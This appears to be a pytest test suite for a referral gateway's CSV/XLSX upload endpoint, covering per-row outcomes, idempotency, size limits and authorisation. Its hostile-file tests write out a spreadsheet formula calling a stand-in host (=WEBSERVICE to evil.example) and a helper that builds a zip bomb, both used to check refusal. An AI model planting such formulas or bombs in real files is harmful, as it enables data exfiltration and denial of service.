"""A spreadsheet comes in: one referral for each row, one answer for each, and what is wrong with one stops no other."""

import csv
import io
import json
import zipfile
from collections.abc import Mapping, Sequence
from importlib import import_module

import pytest
from builders import PERSON_REF, POLICE, an_agency
from openpyxl import Workbook
from web_door import Answer, Web

from adapters.sdk.guard import Guard
from gateway.core.access.scopes import Scope
from gateway.core.uploads import MOST_ROWS

CSV = "text/csv"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
COLUMNS = ("gx_PersonRef", "KEY", "prs_FirstName", "prs_Birthdate", "prs_Gender", "gx_Needs")
HER = (PERSON_REF, "CASE-1", "Linnet", "1999-02-01", "Feminine", "accommodation.emergency")
ROUTE = {
    "GX-Recipient": "river-shelter",
    "GX-Purpose": "assistance.accommodation",
    "GX-Urgency": "urgent",
    "Idempotency-Key": "upload-0001",
}


@pytest.fixture
def web() -> Web:
    """An application in which the police keep a spreadsheet, and she said yes to the shelter."""
    made = Web()
    made.line.adapters.known["htcds"] = Guard(import_module("adapters.systems.htcds.adapter").Htcds())
    made.line.says()
    made.line.directory.put(an_agency(adapter="htcds"))
    return made


def table(*rows: Sequence[str], columns: Sequence[str] = COLUMNS) -> bytes:
    """Write a CSV file."""
    written = io.StringIO()
    csv.writer(written).writerows([columns, *rows])
    return written.getvalue().encode()


def workbook(*rows: Sequence[str]) -> bytes:
    """Write the same as an XLSX file."""
    book, written = Workbook(), io.BytesIO()
    for row in (COLUMNS, *rows):
        book.active.append([*row])
    book.save(written)
    return written.getvalue()


def upload(web: Web, body: bytes, kind: str = CSV, **headers: str) -> Answer:
    return web.ask("POST", "/v1/uploads", body, {**ROUTE, "Content-Type": kind, **headers})


def other(number: int, **changes: str) -> tuple[str, ...]:
    """Return a row about somebody nobody knows."""
    row = dict(zip(COLUMNS, HER, strict=True)) | {"gx_PersonRef": f"P-9{number:03d}", "KEY": f"CASE-9{number:03d}"}
    return tuple((row | changes).values())


def outcomes(answer: Answer) -> list[str]:
    assert answer.status == 200, answer.body
    return [row["outcome"] for row in answer.json["rows"]]


@pytest.mark.parametrize(("write", "kind"), [(table, CSV), (workbook, XLSX)])
def test_each_row_is_a_referral_and_has_an_answer(web: Web, write: object, kind: str) -> None:
    answer = upload(web, write(HER, other(1), other(2, prs_Gender="unicorn")), kind)
    assert outcomes(answer) == ["permitted", "refused", "problem"]
    assert answer.json["count"] == {"permitted": 1, "refused": 1, "problem": 1}
    sent, refused, wrong = answer.json["rows"]
    assert (sent["row"], sent["state"], sent["sent"]) == (1, "submitted", ["age_band", "need", "sex"])
    assert [reason["code"] for reason in refused["reasons"]] == ["not_permitted"]
    assert (wrong["code"], wrong["errors"]) == (
        "document_unreadable",
        [{"pointer": "/prs_Gender", "rule": wrong["errors"][0]["rule"]}],
    )
    [got] = web.line.fetch()
    assert json.loads(got.body)["document"]["needs"] == [{"code": "accommodation.emergency"}]


def test_no_answer_repeats_what_a_row_said(web: Web) -> None:
    answer = upload(web, table(HER, other(1, prs_FirstName="Zamfira", gx_Needs="a-bed-by-the-sea")))
    assert not any(word in answer.body for word in (b"Linnet", b"Zamfira", b"sea", b"P-9001", PERSON_REF.encode()))


def test_c_01_rows_refused_on_record_grounds_look_alike(web: Web) -> None:
    web.line.takes_back()
    withdrawn, unknown = upload(web, table(HER, other(1))).json["rows"]
    assert {name: value for name, value in withdrawn.items() if name not in {"row", "decision_id"}} == {
        name: value for name, value in unknown.items() if name not in {"row", "decision_id"}
    }


def test_the_same_file_again_sends_nothing_twice_and_a_mended_row_goes(web: Web) -> None:
    first = upload(web, table(HER, other(1, prs_Birthdate="yesterday")))
    assert outcomes(first) == ["permitted", "problem"]
    again = upload(web, table(other(1), HER))
    assert outcomes(again) == ["refused", "permitted"]
    assert again.json["rows"][1]["decision_id"] == first.json["rows"][0]["decision_id"]
    assert len(web.line.book.parcels) == 1


def test_another_key_is_another_upload(web: Web) -> None:
    upload(web, table(HER))
    upload(web, table(HER), **{"Idempotency-Key": "upload-0002"})
    assert len(web.line.book.parcels) == 2


def test_a_form_brings_the_same_file(web: Web) -> None:
    head = 'content-disposition: form-data; name="file"; filename="Linnet.csv"\r\ncontent-type: text/csv\r\n\r\n'
    body = b"--x\r\n" + head.encode() + table(HER) + b"\r\n--x--\r\n"
    answer = upload(web, body, "multipart/form-data; boundary=x")
    assert outcomes(answer) == ["permitted"]
    two = b"--x\r\n" + head.encode() + table(HER) + body
    assert upload(web, two, "multipart/form-data; boundary=x").status == 400


def test_rows_are_bounded(web: Web) -> None:
    answer = upload(web, table(*(other(number) for number in range(MOST_ROWS + 1))))
    assert (answer.status, answer.faults) == (400, [("/rows", "too_many_rows")])
    assert web.line.book.referrals == {}
    assert upload(web, table()).faults == [("/rows", "required")]


def a_bomb() -> bytes:
    """Return a workbook whose sheet unpacks to a hundred megabytes."""
    good, bomb = zipfile.ZipFile(io.BytesIO(workbook(HER))), io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as written:
        for name in good.namelist():
            big = name == "xl/worksheets/sheet1.xml"
            written.writestr(name, b"<worksheet>" + b" " * 100_000_000 if big else good.read(name))
    return bomb.getvalue()


HOSTILE: Mapping[str, tuple[bytes, str]] = {
    "a formula": (workbook((PERSON_REF, "CASE-1", '=WEBSERVICE("http://evil.example")', "", "", "")), XLSX),
    "no workbook": (b"PK\x03\x04 and no more", XLSX),
    "no csv": (b'"a', CSV),
    "another table": (b"a,b\r\n1,2\r\n", CSV),
    "another format": (b"{}", "application/json"),
    "nothing": (b"", CSV),
}


@pytest.mark.parametrize("what", HOSTILE)
def test_a_file_that_is_hostile_or_broken_is_refused_whole(web: Web, what: str) -> None:
    body, kind = HOSTILE[what]
    answer = upload(web, body, kind)
    assert 400 <= answer.status < 500
    assert answer.code == "document_unreadable"
    assert b"evil" not in answer.body
    assert web.line.book.referrals == {}


def test_a_zip_bomb_is_refused_before_it_is_unpacked() -> None:
    web = Web(largest_body=1_048_576)
    web.line.adapters.known["htcds"] = Guard(import_module("adapters.systems.htcds.adapter").Htcds())
    web.line.directory.put(an_agency(adapter="htcds"))
    answer = upload(web, a_bomb(), XLSX)
    assert (answer.status, answer.code) == (413, "document_unreadable")


def test_an_agency_whose_format_has_one_record_a_document_is_told_so(web: Web) -> None:
    web.line.directory.put(an_agency(POLICE))
    answer = web.ask("POST", "/v1/uploads", {"schema": "referral/1.0"}, {**ROUTE, "Content-Type": "application/json"})
    assert (answer.status, answer.faults) == (422, [("", "one_record")])


@pytest.mark.parametrize("header", ["GX-Subject", "GX-Preview-Digest"])
def test_what_is_about_one_person_is_refused(web: Web, header: str) -> None:
    value = "row-1" if header == "GX-Subject" else "0" * 64
    assert upload(web, table(HER), **{header: value}).status == 400


def test_the_proof_is_used_up_once_and_a_client_switched_off_sends_no_row(web: Web) -> None:
    assert upload(web, table(HER), DPoP="the one proof").status == 200
    assert upload(web, table(HER), DPoP="the one proof").status == 401
    web.line.book.disabled.add(f"{POLICE}-client")
    assert upload(web, table(other(1))).status == 401


def test_it_needs_the_scope_of_a_sender(web: Web) -> None:
    web.verifier.scopes = frozenset(Scope) - {Scope.SEND_REFERRALS}
    assert upload(web, table(HER)).status == 403
